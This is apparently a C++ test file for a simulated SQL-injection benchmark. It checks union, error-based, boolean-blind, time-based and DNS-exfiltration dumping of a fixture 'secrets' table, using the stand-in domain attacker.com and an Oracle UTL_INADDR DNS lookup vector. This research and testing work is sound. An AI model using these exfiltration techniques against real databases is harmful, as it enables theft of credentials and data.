#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest.h>

#include "dnsexfil/attacker.hpp"
#include "dnsexfil/bench.hpp"

using namespace dnsexfil;
using namespace dnsexfil::attack;

namespace {

sim::FixtureTable tiny_fixture() {
    sim::FixtureTable t;
    t.name = "secrets";
    t.columns = {"id", "login", "token"};
    t.rows = {
        {"1", "root", "tok3n"},
        {"2", "alice", "A"},
        {"3", "bob", ""},
    };
    return t;
}

std::size_t cell_count(const sim::FixtureTable& t) {
    return t.rows.size() * t.columns.size();
}

/// Inband techniques never resolve anything; the core is just wiring.
ns::ServerConfig unused_core_config() {
    ns::ServerConfig cfg;
    cfg.dns_domain = wire::DomainName::from_text("a.com");
    return cfg;
}

std::size_t content_bytes(const sim::FixtureTable& t) {
    return t.content_bytes();
}

struct DnsRig {
    ns::NameserverCore core;
    ns::InProcessUpstream upstream;
    sim::SimTarget target;
    Rng markers;
    DnsDumpContext ctx;

    explicit DnsRig(sim::FixtureTable fixture, std::uint64_t seed = 9)
        : core([] {
              ns::ServerConfig cfg;
              cfg.dns_domain = wire::DomainName::from_text("attacker.com");
              return cfg;
          }()),
          upstream(core),
          target(std::move(fixture), upstream, sim::SimConfig{}, seed),
          markers(seed ^ 0xabcdef),
          ctx{.core = core,
              .dns_domain = wire::DomainName::from_text("attacker.com"),
              .dbms = payload::DbmsKind::mssql,
              .rng = markers} {}
};

} // namespace

TEST_CASE("union full dumps the table in exactly three requests") {
    ns::NameserverCore core(unused_core_config());
    ns::InProcessUpstream up(core);
    auto fixture = tiny_fixture();
    sim::SimTarget target(fixture, up, {}, 1);

    auto out = dump_union(target, true);
    CHECK(out.stats.http_requests == 3);
    CHECK(out.rows == fixture.rows);
    CHECK(out.stats.bytes_recovered == content_bytes(fixture));
    CHECK(out.stats.dns_queries == 0);

    // full union on an empty table still costs its three-request ritual
    sim::FixtureTable empty = fixture;
    empty.rows.clear();
    sim::SimTarget empty_target(empty, up, {}, 1);
    auto none = dump_union(empty_target, true);
    CHECK(none.stats.http_requests == 3);
    CHECK(none.rows.empty());
    CHECK(none.stats.bytes_recovered == 0);
}

TEST_CASE("union partial costs one request per row plus two") {
    ns::NameserverCore core(unused_core_config());
    ns::InProcessUpstream up(core);
    auto fixture = tiny_fixture();
    sim::SimTarget target(fixture, up, {}, 1);

    auto out = dump_union(target, false);
    CHECK(out.stats.http_requests == 2 + fixture.rows.size());
    CHECK(out.rows == fixture.rows);
}

TEST_CASE("error-based pulls one cell chunk per request") {
    ns::NameserverCore core(unused_core_config());
    ns::InProcessUpstream up(core);
    auto fixture = tiny_fixture();
    sim::SimTarget target(fixture, up, {}, 1);

    auto out = dump_errorbased(target);
    CHECK(out.rows == fixture.rows);
    // count probe + one request per (single-chunk) cell, empty cells included
    CHECK(out.stats.http_requests == 1 + cell_count(fixture));

    // chunked cell: ceil(len / chunk) requests for the data
    sim::FixtureTable wide;
    wide.name = "wide";
    wide.columns = {"id", "blob"};
    wide.rows = {{"1", std::string(130, 'q')}};
    sim::SimTarget wide_target(wide, up, {}, 1);
    TechniqueConfig cfg;
    cfg.error_chunk_bytes = 64;
    auto chunked = dump_errorbased(wide_target, cfg);
    CHECK(chunked.rows == wide.rows);
    // 1 count + 1 ("1") + ceil(130/64)=3 for the long cell
    CHECK(chunked.stats.http_requests == 1 + 1 + 3);
}

TEST_CASE("boolean blind recovers everything by bisection") {
    ns::NameserverCore core(unused_core_config());
    ns::InProcessUpstream up(core);
    auto fixture = tiny_fixture();
    sim::SimTarget target(fixture, up, {}, 1);

    auto out = dump_boolean(target);
    CHECK(out.rows == fixture.rows);

    // request arithmetic: 2 calibration + 14 row-count probes +
    // per cell (7 length probes + 7 per character)
    std::size_t expect = 2 + 14;
    for (const auto& row : fixture.rows) {
        for (const auto& cell : row) expect += 7 + 7 * cell.size();
    }
    CHECK(out.stats.http_requests == expect);
    CHECK(out.stats.bytes_recovered == content_bytes(fixture));
}

TEST_CASE("time-based mirrors the boolean search through delays") {
    ns::NameserverCore core(unused_core_config());
    ns::InProcessUpstream up(core);
    auto fixture = tiny_fixture();

    sim::SimTarget boolean_target(fixture, up, {}, 1);
    auto boolean_out = dump_boolean(boolean_target);

    sim::SimTarget timed_target(fixture, up, {}, 1);
    auto timed = dump_timebased(timed_target);
    CHECK(timed.rows == fixture.rows);
    CHECK(timed.stats.http_requests == boolean_out.stats.http_requests);

    // every true probe costs a full delay; false probes cost none of it
    CHECK(timed.stats.virtual_elapsed_ms > 10 * boolean_out.stats.virtual_elapsed_ms);
}

TEST_CASE("dns: a single short cell needs one request and one query") {
    DnsRig rig(tiny_fixture());
    auto item = dns_exfil_expression(rig.target, rig.ctx,
                                     cell_subquery(rig.target.fixture(), 0, 2));
    CHECK(item.http_requests == 1);
    CHECK(rig.target.chain().upstream_queries() == 1);
    CHECK(std::string(item.data.begin(), item.data.end()) == "tok3n");
    CHECK(item.vectors.size() == 1);
}

TEST_CASE("dns: multi-frame cells need exactly ceil(len/capacity) requests") {
    sim::FixtureTable t;
    t.name = "big";
    t.columns = {"id", "blob"};
    std::string blob;
    for (int i = 0; i < 250; ++i) blob.push_back(static_cast<char>('a' + i % 26));
    t.rows = {{"1", blob}};

    DnsRig rig(t);
    auto item = dns_exfil_expression(rig.target, rig.ctx, cell_subquery(t, 0, 1));
    // capacity for attacker.com is 94 bytes per frame -> ceil(250/94) = 3
    CHECK(item.http_requests == 3);
    CHECK(rig.target.chain().upstream_queries() == 3);
    CHECK(std::string(item.data.begin(), item.data.end()) == blob);
}

TEST_CASE("dns: empty cells travel as one empty frame") {
    DnsRig rig(tiny_fixture());
    auto item = dns_exfil_expression(rig.target, rig.ctx,
                                     cell_subquery(rig.target.fixture(), 2, 2));
    CHECK(item.http_requests == 1);
    CHECK(item.data.empty());
}

TEST_CASE("dns: oracle vectors carry no UNC backslashes") {
    auto fixture = tiny_fixture();
    DnsRig rig(fixture);
    rig.ctx.dbms = payload::DbmsKind::oracle;
    auto item = dns_exfil_expression(rig.target, rig.ctx, cell_subquery(fixture, 0, 1));
    CHECK(std::string(item.data.begin(), item.data.end()) == "root");
    REQUIRE(item.vectors.size() == 1);
    CHECK(item.vectors[0].find("UTL_INADDR.GET_HOST_ADDRESS") != std::string::npos);
    CHECK(item.vectors[0].find('\\') == std::string::npos);
}

TEST_CASE("dns: whole-table dump counts one item per cell plus the row count") {
    auto fixture = tiny_fixture();
    DnsRig rig(fixture);
    rig.ctx.verify_against = &rig.target.fixture();

    auto out = dump_dns(rig.target, rig.ctx);
    CHECK(out.rows == fixture.rows);
    CHECK(out.stats.bytes_recovered == content_bytes(fixture));
    // every cell fits one frame here, plus one frame for the count item
    CHECK(out.stats.http_requests == 1 + cell_count(fixture));
    CHECK(out.stats.dns_queries == out.stats.http_requests);
}

TEST_CASE("dns: markers never repeat within a run") {
    auto fixture = tiny_fixture();
    DnsRig rig(fixture);
    dump_dns(rig.target, rig.ctx);
    // count item + 9 cells = 10 distinct marker prefixes
    CHECK(rig.ctx.used_prefixes.size() == 10);
}

TEST_CASE("dns: verification against a wrong table raises VerifyMismatch") {
    auto fixture = tiny_fixture();
    DnsRig rig(fixture);
    auto wrong = fixture;
    wrong.rows[0][1] = "different";
    rig.ctx.verify_against = &wrong;
    CHECK_THROWS_AS(dump_dns(rig.target, rig.ctx), VerifyMismatch);
}

TEST_CASE("dns: lost frames surface as ItemTimeout naming the marker") {
    // An upstream that answers nothing: resolutions fail, no frames arrive.
    class BlackHole : public sim::Upstream {
        std::optional<wire::DnsMessage> query(const wire::DnsMessage&) override {
            return std::nullopt;
        }
    };
    ns::ServerConfig cfg;
    cfg.dns_domain = wire::DomainName::from_text("attacker.com");
    ns::NameserverCore core(cfg);
    BlackHole hole;
    sim::SimTarget target(tiny_fixture(), hole, {}, 3);
    Rng markers(4);
    DnsDumpContext ctx{.core = core,
                       .dns_domain = wire::DomainName::from_text("attacker.com"),
                       .dbms = payload::DbmsKind::mssql,
                       .rng = markers};
    ctx.item_timeout = std::chrono::milliseconds(100);
    CHECK_THROWS_AS(dns_exfil_expression(target, ctx, "(SELECT login FROM secrets LIMIT 0,1)"),
                    ItemTimeout);
}

TEST_CASE("8-bit charset reaches high bytes") {
    ns::NameserverCore core(unused_core_config());
    ns::InProcessUpstream up(core);
    sim::FixtureTable t = tiny_fixture();
    t.rows[0][2] = std::string("caf\xc3\xa9"); // utf-8 bytes above 127
    sim::SimTarget target(t, up, {}, 1);

    TechniqueConfig cfg;
    cfg.charset_bits = 8;
    auto out = dump_boolean(target, cfg);
    CHECK(out.rows == t.rows);

    // 7-bit search cannot represent those bytes and must not pretend to
    sim::SimTarget target7(t, up, {}, 1);
    auto seven = dump_boolean(target7);
    CHECK(seven.rows != t.rows);
}

TEST_CASE("technique config is validated") {
    ns::NameserverCore core(unused_core_config());
    ns::InProcessUpstream up(core);
    sim::SimTarget target(tiny_fixture(), up, {}, 1);

    TechniqueConfig bad_bits;
    bad_bits.charset_bits = 9;
    CHECK_THROWS_AS(dump_boolean(target, bad_bits), AttackError);

    TechniqueConfig bad_delay;
    bad_delay.time_delay_ms = 0;
    CHECK_THROWS_AS(dump_timebased(target, bad_delay), AttackError);
}

TEST_CASE("boolean request count matches the bisection model on the big fixture") {
    ns::NameserverCore core(unused_core_config());
    ns::InProcessUpstream up(core);
    auto fixture = bench::builtin_fixture();
    sim::SimTarget target(fixture, up, {}, 1);

    auto out = dump_boolean(target);
    CHECK(out.rows == fixture.rows);

    // model: charset_bits probes per character plus a couple per cell for
    // the length search; measured counts stay within 15% of it
    double cells = static_cast<double>(fixture.rows.size() * fixture.columns.size());
    double model = 7.0 * static_cast<double>(fixture.content_bytes()) + 2.0 * cells;
    double ratio = static_cast<double>(out.stats.http_requests) / model;
    CHECK(ratio > 0.85);
    CHECK(ratio < 1.15);
}

TEST_CASE("boolean channel breakage is detected") {
    ns::NameserverCore core(unused_core_config());
    ns::InProcessUpstream up(core);
    // no row with key 1: the calibration pages are identical
    sim::FixtureTable t = tiny_fixture();
    t.rows = {{"7", "x", "y"}};
    sim::SimTarget target(t, up, {}, 1);
    CHECK_THROWS_AS(dump_boolean(target), ChannelBroken);
}

TEST_CASE("technique names round-trip") {
    for (auto t : bench::all_techniques()) {
        CHECK(bench::technique_from_string(std::string(to_string(t))) == t);
    }
    CHECK_THROWS(bench::technique_from_string("nope"));
}
